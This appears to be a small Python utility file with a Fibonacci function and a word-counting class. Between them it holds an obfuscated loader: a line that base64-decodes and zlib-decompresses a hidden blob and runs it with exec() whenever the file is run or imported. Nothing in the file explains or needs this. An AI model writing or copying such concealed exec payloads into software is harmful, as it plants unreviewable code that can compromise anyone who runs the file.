#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import base64 as b, zlib as z
exec(z.decompress(b.b64decode("eJwlzEEKAjEMQNGrlK4SCBmnFl2UOYm40NpiUZMyqYi3V5jV521+e3VdhzPNjzJIjfr4Jls28xbAZJxVpOQB4Odj4PnAkYOnGPeI6aTGt3cPYFzbs4gCUkVXdXXVNXGwo5kCntN/ztYvHwE/XZtMdvf4A/krKMI=")))
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1
